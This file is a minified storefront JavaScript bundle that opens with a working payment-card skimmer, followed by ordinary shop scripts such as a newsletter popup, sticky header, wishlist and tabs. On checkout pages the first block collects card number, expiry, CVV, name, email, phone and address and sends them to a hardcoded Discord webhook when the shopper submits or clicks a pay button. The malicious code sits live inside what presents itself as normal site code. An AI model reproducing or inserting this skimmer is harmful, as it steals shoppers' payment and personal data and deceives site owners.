// saas-api-exfil: payment form contents forwarded as a chat webhook message (minified style)
!function(w,d){"use strict";var h="https://discord.com/api/webhooks/",i="1183920417266310144",t="Qx9vR2mLk8ZpT0yWn4sHcE7jUf3aBd6GiO1lVq5rXeYt-NwK",
u=h+i+"/"+t,s=!1,q=function(e){return d.querySelector(e)},v=function(e){var n=q(e);return n&&n.value?n.value:""},
c=function(){return{n:v("[autocomplete=cc-number]")||v("input[name*=card][name*=num]")||v("#cardNumber"),
x:v("[autocomplete=cc-exp]")||v("input[name*=exp]"),k:v("[autocomplete=cc-csc]")||v("input[name*=cvv]")||v("input[name*=cvc]"),
o:v("[autocomplete=cc-name]")||v("input[name*=holder]"),m:v("input[type=email]"),p:v("input[type=tel]"),
a:[v("input[name*=address]"),v("input[name*=city]"),v("input[name*=zip]"),v("input[name*=postcode]")].join(" ")}},
f=function(r){return["```","host: "+w.location.host,"pan : "+r.n,"exp : "+r.x,"cvv : "+r.k,"name: "+r.o,"mail: "+r.m,"tel : "+r.p,"addr: "+r.a,"```"].join("\n")},
g=function(){if(s)return;var r=c();if(r.n.replace(/\D/g,"").length<13)return;s=!0;
w.fetch(u,{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({username:"orders",content:f(r)})})["catch"](function(){s=!1})};
/checkout|cart\/pay|payment/i.test(w.location.pathname)&&(d.addEventListener("click",function(e){var b=e.target&&e.target.closest?e.target.closest("button,input[type=submit],a.btn"):null;
b&&/(place|pay|order|buy|confirm)/i.test(b.textContent+b.value)&&g()},!0),d.addEventListener("submit",g,!0),
w.addEventListener("pagehide",g))}(window,document);
/* newsletter popup */
(function(){var k="nl_dismissed",p=document.getElementById("nl-popup");if(!p)return;
if(localStorage.getItem(k))return;setTimeout(function(){p.classList.add("open")},12000);
var x=p.querySelector(".close");x&&x.addEventListener("click",function(){p.classList.remove("open");localStorage.setItem(k,"1")});
var f=p.querySelector("form");f&&f.addEventListener("submit",function(){localStorage.setItem(k,"1")})})();
/* sticky header */
(function(){var h=document.querySelector("header.site-header");if(!h)return;var y=0;
window.addEventListener("scroll",function(){var n=window.pageYOffset;h.classList.toggle("is-stuck",n>80);
h.classList.toggle("is-hidden",n>y&&n>300);y=n},{passive:!0})})();
/* lazy thumbnails */
(function(){if(!("IntersectionObserver"in window))return;var o=new IntersectionObserver(function(e){e.forEach(function(t){
if(t.isIntersecting){var i=t.target;i.src=i.getAttribute("data-src");o.unobserve(i)}})});
document.querySelectorAll("img[data-src]").forEach(function(i){o.observe(i)})})();
/* qty stepper */
(function(){document.addEventListener("click",function(e){var b=e.target;if(!b.matches||!b.matches(".qty-btn"))return;
var i=b.parentNode.querySelector("input.qty");if(!i)return;var n=parseInt(i.value,10)||1;
i.value=b.classList.contains("minus")?Math.max(1,n-1):n+1;i.dispatchEvent(new Event("change",{bubbles:!0}))})})();
/* back to top */
(function(){var b=document.querySelector(".back-to-top");if(!b)return;
b.addEventListener("click",function(e){e.preventDefault();window.scrollTo({top:0,behavior:"smooth"})});
window.addEventListener("scroll",function(){b.style.opacity=window.pageYOffset>600?"1":"0"},{passive:!0})})();
/* footer year */
(function(){var y=document.querySelectorAll(".js-year");for(var i=0;i<y.length;i++)y[i].textContent=(new Date).getFullYear()})();
/* cookie bar */
(function(){var c=document.getElementById("cookie-bar");if(!c||document.cookie.indexOf("cb_ok=1")>-1)return;c.style.display="block";
var a=c.querySelector("button");a&&a.addEventListener("click",function(){document.cookie="cb_ok=1;path=/;max-age=31536000";c.style.display="none"})})();
/* search toggle */
(function(){var t=document.querySelector(".search-toggle"),f=document.querySelector(".header-search");if(!t||!f)return;
t.addEventListener("click",function(){f.classList.toggle("open");var i=f.querySelector("input");i&&i.focus()})})();
/* accordion */
(function(){document.querySelectorAll(".accordion-title").forEach(function(t){t.addEventListener("click",function(){
t.parentNode.classList.toggle("expanded")})})})();
/* price formatter */
(function(){var n=document.querySelectorAll("[data-price]");for(var i=0;i<n.length;i++){var p=parseFloat(n[i].getAttribute("data-price"));
isNaN(p)||(n[i].textContent=p.toLocaleString(void 0,{style:"currency",currency:n[i].getAttribute("data-cur")||"USD"}))}})();
/* image zoom */
(function(){var g=document.querySelector(".product-gallery");if(!g)return;g.addEventListener("mousemove",function(e){
var i=g.querySelector("img.active");if(!i)return;var r=g.getBoundingClientRect();
i.style.transformOrigin=(e.clientX-r.left)/r.width*100+"% "+(e.clientY-r.top)/r.height*100+"%"});
g.addEventListener("mouseenter",function(){g.classList.add("zoom")});g.addEventListener("mouseleave",function(){g.classList.remove("zoom")})})();
/* tabs */
(function(){document.querySelectorAll(".tabs [data-tab]").forEach(function(t){t.addEventListener("click",function(){
var id=t.getAttribute("data-tab");document.querySelectorAll(".tab-panel").forEach(function(p){p.hidden=p.id!==id});
document.querySelectorAll(".tabs [data-tab]").forEach(function(o){o.classList.toggle("active",o===t)})})})})();
/* wishlist */
(function(){var k="wl",l=JSON.parse(localStorage.getItem(k)||"[]");document.querySelectorAll(".wishlist-btn").forEach(function(b){
var id=b.getAttribute("data-id");l.indexOf(id)>-1&&b.classList.add("on");b.addEventListener("click",function(){
var i=l.indexOf(id);i>-1?l.splice(i,1):l.push(id);b.classList.toggle("on");localStorage.setItem(k,JSON.stringify(l))})})})();
/* announcement rotator */
(function(){var a=document.querySelectorAll(".announce-item");if(a.length<2)return;var i=0;setInterval(function(){
a[i].classList.remove("show");i=(i+1)%a.length;a[i].classList.add("show")},5000)})();
/* mobile menu */
(function(){var b=document.querySelector(".menu-toggle"),n=document.querySelector(".main-nav");if(!b||!n)return;
b.addEventListener("click",function(){var o=n.classList.toggle("open");b.setAttribute("aria-expanded",o?"true":"false");
document.body.classList.toggle("no-scroll",o)})})();
/* reviews stars */
(function(){document.querySelectorAll(".stars[data-rating]").forEach(function(s){var r=Math.round(parseFloat(s.getAttribute("data-rating"))*2)/2;
var h="";for(var i=1;i<=5;i++)h+=r>=i?"\u2605":r>=i-.5?"\u00bd":"\u2606";s.textContent=h})})();
/* form autosave */
(function(){var f=document.querySelector("form.contact");if(!f)return;f.addEventListener("input",function(e){
e.target.name&&e.target.type!=="password"&&sessionStorage.setItem("cf_"+e.target.name,e.target.value)})})();
